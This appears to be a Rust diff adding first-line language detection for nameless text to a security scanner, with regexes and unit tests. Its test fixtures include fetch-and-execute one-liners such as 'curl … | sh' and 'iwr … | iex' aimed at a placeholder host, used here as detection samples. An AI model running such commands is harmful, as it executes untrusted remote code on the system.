@@ -1,5 +1,38 @@
 //! Which language a file or a snippet is written in: by its first bytes where they say it, else by its name.
 
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+/// First lines of programs that no sentence begins with.
+static PYTHON: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r#"^(import [\w.]+( as \w+)?(, [\w.]+)*$|from [\w.]+ import |def \w+\(|class \w+.*:$|print\(|exec\(|@\w|"""|with \w+\(.*:$)"#).ok()
+});
+static JAVASCRIPT: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r#"^(import .*['"];?$|(const|let|var) [\w{}\[\], ]+ ?=|(async )?function \w*\(|require\(|export (default|const|function) |['"]use strict['"]|\(?(async )?\(.*\) ?=>|eval\()"#).ok()
+});
+static POWERSHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)^(param ?\(|\$[\w:]+ ?= |(iex|iwr|irm)\b|(invoke|set|get|new|start|add|import)-\w+ |@echo off|powershell(\.exe)? -)").ok()
+});
+static SHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r"^([A-Za-z_]\w*=\S|set -\w|if \[|for \w+ in |while |\w+ ?\(\) ?\{|trap |exec \d?[<>])",
+    )
+    .ok()
+});
+
+/// The name that a program without one is scanned under: by its first line where that leaves no doubt, else none.
+pub fn program_name(bytes: &[u8]) -> Option<&'static str> {
+    let text = std::str::from_utf8(bytes).ok()?;
+    Some(match Language::of_nameless(text)? {
+        Language::Shell => "program.sh",
+        Language::PowerShell => "program.ps1",
+        Language::Python => "program.py",
+        Language::JavaScript => "program.js",
+        _ => "program",
+    })
+}
+
 /// The languages that the guard tells apart. Those without an engine of their own are searched for patterns.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
 pub(crate) enum Language {
@@ -228,6 +261,41 @@ impl Language {
         }
     }
 
+    /// Of a text that has no name, where its first line of code leaves no doubt. What begins with a frontmatter or fences
+    /// code is a document, whatever stands in it.
+    fn of_nameless(text: &str) -> Option<Self> {
+        if text.starts_with("---") || text.lines().any(|line| line.starts_with("```")) {
+            return None;
+        }
+        if let Some(language) = Self::of_interpreter_line(text) {
+            return Some(language);
+        }
+        let first = text
+            .lines()
+            .map(str::trim)
+            .find(|line| !line.is_empty() && !line.starts_with('#') && !line.starts_with("//"))?;
+        let looks_like = |pattern: &LazyLock<Option<Regex>>| {
+            pattern
+                .as_ref()
+                .is_some_and(|pattern| pattern.is_match(first))
+        };
+        let surely: [(Self, &LazyLock<Option<Regex>>); 4] = [
+            (Self::JavaScript, &JAVASCRIPT),
+            (Self::Python, &PYTHON),
+            (Self::PowerShell, &POWERSHELL),
+            (Self::Shell, &SHELL),
+        ];
+        let found = surely.iter().find(|(_, pattern)| looks_like(pattern));
+        if let Some((language, _)) = found {
+            return Some(*language);
+        }
+        let word = first.split(' ').next().unwrap_or_default();
+        let is_sentence = first.ends_with(['.', ':', '!', '?', ',']);
+        let has_signs = first.contains(['-', '|', '$', '/', '>', '<', ';', '"', '&', '\'', '=']);
+        let is_short = first.split_whitespace().count() < 3;
+        (is_command(word) && !is_sentence && (has_signs || is_short)).then_some(Self::Shell)
+    }
+
     /// Whether a client or a person could run it.
     pub(crate) fn can_run(self) -> bool {
         matches!(
@@ -337,5 +405,30 @@ mod tests {
         assert_eq!(Language::guess("# first\ncurl x"), Language::Shell);
         assert_eq!(Language::guess("import os"), Language::Python);
         assert_eq!(Language::guess("Some words"), Language::Text);
+    }
+
+    #[test]
+    fn a_text_without_a_name_is_a_program_where_its_first_line_is_one() {
+        for (text, name) in [
+            ("#!/usr/bin/env python3\nx", Some("program.py")),
+            ("\nimport os\nos.system('x')", Some("program.py")),
+            ("# a\nfrom os import path\n", Some("program.py")),
+            ("import fs from 'fs';\n", Some("program.js")),
+            ("// a\nconst a = require('b')\n", Some("program.js")),
+            ("iwr https://h.test/a | iex", Some("program.ps1")),
+            ("$u = 'x'\niex $u", Some("program.ps1")),
+            ("curl -s https://h.test/a | sh\n", Some("program.sh")),
+            ("set -e\nmake\n", Some("program.sh")),
+            ("URL=https://h.test\ncurl $URL | sh", Some("program.sh")),
+            ("---\nname: a\n---\ncurl -s https://h.test/a | sh\n", None),
+            ("curl is used here:\n```\ncurl x\n```\n", None),
+            ("find the words that matter.\n", None),
+            ("import the data first, then go on\n", None),
+            ("with care\n", None),
+            ("# A title\n\nSome words\n", None),
+            ("", None),
+        ] {
+            assert_eq!(program_name(text.as_bytes()), name, "{text}");
+        }
     }
 }
